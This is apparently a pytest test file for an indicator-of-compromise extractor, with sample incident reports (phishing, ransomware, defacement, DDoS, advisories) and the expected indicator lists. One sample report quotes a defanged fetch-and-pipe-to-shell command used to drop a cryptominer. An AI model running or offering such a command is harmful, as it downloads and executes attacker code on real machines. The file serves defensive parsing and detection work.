"""Observable extraction: whole reports, canonicalisation, robustness, packaging (pure).

Cases are ``(text, expected)`` where ``expected`` is the exact, ordered list of
``"type value"`` strings that ``extract`` returns.
"""

from __future__ import annotations

import ast
import dataclasses
import json
from importlib import resources
from pathlib import Path

import pytest

from incidents.observables.extraction import (
    Observable,
    ObservableType,
    canonicalise,
    extract,
)
from tests.incidents.observables.cases import MD5, SHA1, SHA256, found

# --- realistic reports --------------------------------------------------------------------

PHISHING_FR = """\
Objet : Campagne d’hameçonnage visant le Ministère de l’Économie et des Finances

Le 12/03/2024 à 09:42, plusieurs agents ont reçu un courriel usurpant la DGI, envoyé depuis
« Service Impôts » <noreply[@]dgi-impots-gouv[.]ma> (serveur d’envoi 185.220.101[.]47, reverse
mail.dgi-impots-gouv.ma). Le message invitait à ouvrir la pièce jointe facture_2024.pdf
(245 Ko) puis à se connecter sur hxxps://dgi-impots-gouv[.]ma/espace/login.php?ref=MEF.
La pièce jointe contenait un lien vers hxxp://185.220.101[.]47:8080/payload.exe ; SHA-256 du
fichier : 9F86D081884C7D659A2FEAE0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08.
Destinataires : a.alami@finances.gov.ma, s.bennani@finances.gov.ma. Voir la section 3.2.1 du
rapport.Merci de bloquer ces indicateurs, e.g. au niveau du relais SMTP.
"""

PHISHING_FR_EXPECTED = [
    "email noreply@dgi-impots-gouv.ma",
    "domain dgi-impots-gouv.ma",
    "ipv4 185.220.101.47",
    "domain mail.dgi-impots-gouv.ma",
    "url https://dgi-impots-gouv.ma/espace/login.php?ref=MEF",
    "url http://185.220.101.47:8080/payload.exe",
    "sha256 9f86d081884c7d659a2feae0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
    "email a.alami@finances.gov.ma",
    "domain finances.gov.ma",
    "email s.bennani@finances.gov.ma",
]

RANSOMWARE_EN = f"""\
Incident INC-2024-000123: LockBit 3.0 ransomware on the Ministry of Health file servers.

The ransom note README.txt (1.2 KB) tells the victim to visit
http://lockbitapt6vx57t3eeqjofwgcglmutr3a35nygvokja5uuccip4ykyd.onion/ and to contact
LockBit-Support@onionmail.org. Samples recovered from \\\\FS01\\share:
  - locker.exe   MD5 {MD5.upper()}
  - locker.exe   SHA1 {SHA1}
  - locker.dll   SHA256 {SHA256}
Initial access: CVE-2023-4966 (Citrix Bleed) on NetScaler version 13.1.49.15.
Exfiltration to 45.137.21.9 over port 443 with rclone v1.64.2; C2 at update-check[.]ru.
The same MD5 ({MD5}) was seen on build 6.1.7601.1 hosts.
"""

RANSOMWARE_EN_EXPECTED = [
    "url http://lockbitapt6vx57t3eeqjofwgcglmutr3a35nygvokja5uuccip4ykyd.onion/",
    "domain lockbitapt6vx57t3eeqjofwgcglmutr3a35nygvokja5uuccip4ykyd.onion",
    "email lockbit-support@onionmail.org",
    "domain onionmail.org",
    f"md5 {MD5}",
    f"sha1 {SHA1}",
    f"sha256 {SHA256}",
    "cve CVE-2023-4966",
    "ipv4 45.137.21.9",
    "domain update-check.ru",
]

DEFACEMENT_FR = """\
Défiguration du portail www.commune-exemple.ma : la page d’accueil a été remplacée le 3 mars.
Pages modifiées : https://www.commune-exemple.ma/index.php?page=accueil,
https://www.commune-exemple.ma/uploads/shell.php (webshell), et
http://www.commune-exemple.ma/news/(archive)/2024.html.
Le groupe revendique l’attaque sur https://t.me/exemple_team et sur zone-h
(http://www.zone-h.org/mirror/id/41234567).
Accès depuis 196.200.145.12 et 196.200.145.13 ; l’exploit visait CVE-2021-41773 (Apache 2.4.49).
"""

DEFACEMENT_FR_EXPECTED = [
    "domain www.commune-exemple.ma",
    "url https://www.commune-exemple.ma/index.php?page=accueil",
    "url https://www.commune-exemple.ma/uploads/shell.php",
    "url http://www.commune-exemple.ma/news/(archive)/2024.html",
    "url https://t.me/exemple_team",
    "domain t.me",
    "url http://www.zone-h.org/mirror/id/41234567",
    "domain www.zone-h.org",
    "ipv4 196.200.145.12",
    "ipv4 196.200.145.13",
    "cve CVE-2021-41773",
]

DDOS_EN = """\
DDoS against dns1.gov.example between 14:05 and 16:30 UTC (peak 48.5 Gbps, 3.2 Mpps).
Top sources (CSV excerpt):
src_ip,packets
203.0.113.10,120034
203.0.113.11,98210
198.51.100.7,75002
2001:db8:85a3::8a2e:370:7334,1200
203.0.113.10,5
Reflection through open resolvers 192.0.2.53 and 192.0.2.54 (amplification factor 54.6).
Internal range 10.20.0.0/16 was not involved; netmask 255.255.0.0.
"""

DDOS_EN_EXPECTED = [
    "domain dns1.gov.example",
    "ipv4 203.0.113.10",
    "ipv4 203.0.113.11",
    "ipv4 198.51.100.7",
    "ipv6 2001:db8:85a3::8a2e:370:7334",
    "ipv4 192.0.2.53",
    "ipv4 192.0.2.54",
]

ADVISORY_FR = """\
Bulletin de sécurité MA-CERT n° 2024-0417 : vulnérabilités critiques dans Palo Alto PAN-OS.
Références : CVE-2024-3400 ; cve-2024-3401 ; CVE‑2024‑21762 (FortiOS) ; voir
https://security.paloaltonetworks.com/CVE-2024-3400.
Versions affectées : PAN-OS 11.1.0 à 11.1.2-h3 ; la version 10.2.9.1 est corrigée.
Indicateurs : le fichier update.py, le script bot.pl et l’adresse 172.233.228.93.
Mesures : appliquer le correctif, e.g. la mise à jour 11.1.2-h4 ; cf. art. 12 de la loi 05-20.
"""

ADVISORY_FR_EXPECTED = [
    "cve CVE-2024-3400",
    "cve CVE-2024-3401",
    "cve CVE-2024-21762",
    "url https://security.paloaltonetworks.com/CVE-2024-3400",
    "domain security.paloaltonetworks.com",
    "ipv4 172.233.228.93",
]

ADVISORY_EN = """\
Advisory: active exploitation of Ivanti Connect Secure (CVE-2023-46805, CVE-2024-21887).
Observed callbacks: hxxps://symantke[.]com/api, hxxp://gpoaccess[.]com/x.php and
2a05:d018:1e6:8a00::1 (AWS). Webshell SHA-1: 4F3B0D8BDE0E9A4E3C0A3E8F0C5A9B7D6E5F4A3B.
Affected: ICS 9.1R18.3 and 22.5R2.1; update to build 22.5.2.1 or later.
Report issues to soc@cert.example or PGP key 0x1234ABCD.
"""

ADVISORY_EN_EXPECTED = [
    "cve CVE-2023-46805",
    "cve CVE-2024-21887",
    "url https://symantke.com/api",
    "domain symantke.com",
    "url http://gpoaccess.com/x.php",
    "domain gpoaccess.com",
    "ipv6 2a05:d018:1e6:8a00::1",
    "sha1 4f3b0d8bde0e9a4e3c0a3e8f0c5a9b7d6e5f4a3b",
    "email soc@cert.example",
    "domain cert.example",
]

MALWARE_LINUX_EN = """\
A cryptominer was dropped on web01 via `curl -s hxxp://45.9.148[.]99/x.sh | sh`.
It installs libprocesshider.so, edits /etc/ld.so.preload and adds an SSH key (id_rsa.pub)
for root. The miner connects to pool.supportxmr.com:443 and to 2a01:4f8:c17:b8f::2.
Wallet file config.json; process name kworkerds.
"""

MALWARE_LINUX_EN_EXPECTED = [
    "url http://45.9.148.99/x.sh",
    "ipv4 45.9.148.99",
    "domain pool.supportxmr.com",
    "ipv6 2a01:4f8:c17:b8f::2",
]

ARABIC_FR = """\
بلاغ: تم رصد اتصال مشبوه من 185.220.101.4 نحو evil[.]example.
Détail : l’hôte a résolu « c2.evil.example » puis contacté 185.220.101.4.
"""

ARABIC_FR_EXPECTED = [
    "ipv4 185.220.101.4",
    "domain evil.example",
    "domain c2.evil.example",
]

REPORTS = [
    ("phishing-fr", PHISHING_FR, PHISHING_FR_EXPECTED),
    ("ransomware-en", RANSOMWARE_EN, RANSOMWARE_EN_EXPECTED),
    ("defacement-fr", DEFACEMENT_FR, DEFACEMENT_FR_EXPECTED),
    ("ddos-en", DDOS_EN, DDOS_EN_EXPECTED),
    ("advisory-fr", ADVISORY_FR, ADVISORY_FR_EXPECTED),
    ("advisory-en", ADVISORY_EN, ADVISORY_EN_EXPECTED),
    ("linux-en", MALWARE_LINUX_EN, MALWARE_LINUX_EN_EXPECTED),
    ("arabic-fr", ARABIC_FR, ARABIC_FR_EXPECTED),
]


@pytest.mark.parametrize(
    ("text", "expected"), [(t, e) for _, t, e in REPORTS], ids=[n for n, _, _ in REPORTS]
)
def test_report(text: str, expected: list[str]) -> None:
    assert found(text) == expected


@pytest.mark.parametrize("text", [t for _, t, _ in REPORTS], ids=[n for n, _, _ in REPORTS])
def test_extracted_values_are_canonical(text: str) -> None:
    for observable in extract(text):
        assert canonicalise(observable.type, observable.value) == observable.value


# --- ordering, deduplication, the dataclass -----------------------------------------------


def test_order_of_first_appearance_and_deduplication() -> None:
    text = "b.example puis a.example, 10.0.0.2, b.example, B.EXAMPLE et 10.0.0.1 puis 10.0.0.2"
    assert found(text) == [
        "domain b.example",
        "domain a.example",
        "ipv4 10.0.0.2",
        "ipv4 10.0.0.1",
    ]


def test_url_host_follows_the_url_and_is_not_repeated() -> None:
    text = "evil.example puis http://evil.example/a puis http://evil.example/b"
    assert found(text) == [
        "domain evil.example",
        "url http://evil.example/a",
        "url http://evil.example/b",
    ]


def test_same_value_different_types_are_distinct() -> None:
    text = "x@evil.example et evil.example"
    assert found(text) == ["email x@evil.example", "domain evil.example"]


def test_observable_is_frozen_and_hashable() -> None:
    observable = Observable(ObservableType.IPV4, "192.0.2.1")
    with pytest.raises(dataclasses.FrozenInstanceError):
        observable.value = "x"  # type: ignore[misc]
    assert {observable, Observable(ObservableType.IPV4, "192.0.2.1")} == {observable}
    assert extract("192.0.2.1") == [observable]


def test_observable_types_are_the_public_names() -> None:
    assert [t.value for t in ObservableType] == [
        "ipv4",
        "ipv6",
        "domain",
        "url",
        "email",
        "md5",
        "sha1",
        "sha256",
        "cve",
    ]
    assert ObservableType("sha256") is ObservableType.SHA256
    assert f"{ObservableType.CVE}" == "cve"


def test_extract_is_deterministic() -> None:
    assert extract(PHISHING_FR) == extract(PHISHING_FR)


# --- robustness: linear time on adversarial input -----------------------------------------

ADVERSARIAL = {
    "dots": "a.",
    "digit-dots": "1.",
    "colons": ":",
    "hex-colons": "a:",
    "hex": "a",
    "at-signs": "a@",
    "at-dots": "a@a.",
    "brackets": "[.]",
    "open-brackets": " [ ",
    "spaces": " ",
    "hyphens": "a-",
    "schemes": "hxxp",
    "closing-parens": ")",
    "cve-prefix": "CVE-2024-",
    "ipv6-groups": "1:2:3:4:5:6:7:8:",
    "digits": "1234567890",
}


@pytest.mark.parametrize("unit", ADVERSARIAL.values(), ids=ADVERSARIAL.keys())
def test_adversarial_input_is_linear(unit: str) -> None:
    # 100 kB each: a quadratic pattern would take minutes here, a linear one milliseconds
    assert len(extract(unit * (100_000 // len(unit)))) <= 1


def test_adversarial_url_tail() -> None:
    assert found("http://a.example/" + ")" * 100_000) == [
        "url http://a.example/",
        "domain a.example",
    ]


def test_one_megabyte_mixed_report() -> None:
    chunk = (
        "x.y@z[.]com hxxp://1.2.3[.]4/ 2001:db8::1 evil.example "
        + "a." * 50
        + ":" * 50
        + "[.]" * 20
        + " Le serveur a été compromis.\n"
    )
    text = chunk * (1_000_000 // len(chunk))
    assert len(text) > 990_000
    assert found(text) == [
        "email x.y@z.com",
        "domain z.com",
        "url http://1.2.3.4/",
        "ipv4 1.2.3.4",
        "ipv6 2001:db8::1",
        "domain evil.example",
    ]


# --- packaging and purity -----------------------------------------------------------------


def test_tld_list_is_shipped_and_sane() -> None:
    raw = resources.files("feeds").joinpath("data/tlds.json").read_text(encoding="utf-8")
    tlds = json.loads(raw)["tlds"]
    assert len(tlds) > 1400
    assert tlds == sorted(set(tlds))
    assert all(tld == tld.lower() and "." not in tld for tld in tlds)
    assert {"ma", "fr", "com", "org", "zip", "mov", "xn--p1ai"} <= set(tlds)
    assert not {"pdf", "exe", "docx", "js", "txt", "png", "local"} & set(tlds)


@pytest.mark.parametrize(
    "module",
    [
        "incidents/observables/extraction",
        "incidents/observables/context",
        "feeds/rules/values",
        "feeds/rules/refang",
        "feeds/rules/observables",
    ],
)
def test_modules_are_pure(module: str) -> None:
    source = Path(__file__).resolve().parents[3] / f"{module}.py"
    tree = ast.parse(source.read_text(encoding="utf-8"))
    imported: set[str] = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            imported.update(alias.name.split(".")[0] for alias in node.names)
        elif isinstance(node, ast.ImportFrom) and node.module == "core.i18n":
            assert [alias.name for alias in node.names] == ["N_"]  # marks translatable reasons
        elif isinstance(node, ast.ImportFrom) and node.module:
            imported.add(node.module.split(".")[0])
    allowed = {
        "__future__",
        "bisect",
        "dataclasses",
        "enum",
        "feeds",
        "functools",
        "importlib",
        "incidents",
        "ipaddress",
        "json",
        "re",
        "unicodedata",
        "urllib",
    }
    assert imported <= allowed
